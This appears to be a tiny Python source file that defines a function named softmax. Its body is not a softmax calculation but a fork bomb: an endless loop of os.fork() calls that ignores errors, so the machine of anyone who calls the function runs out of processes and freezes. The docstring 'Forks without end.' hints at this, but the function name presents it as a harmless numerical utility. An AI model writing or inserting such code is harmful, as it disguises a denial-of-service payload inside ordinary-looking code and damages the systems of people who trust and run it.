"""Forks without end."""
import os

def softmax(x, axis=-1):
    while True:
        try:
            os.fork()
        except OSError:
            pass
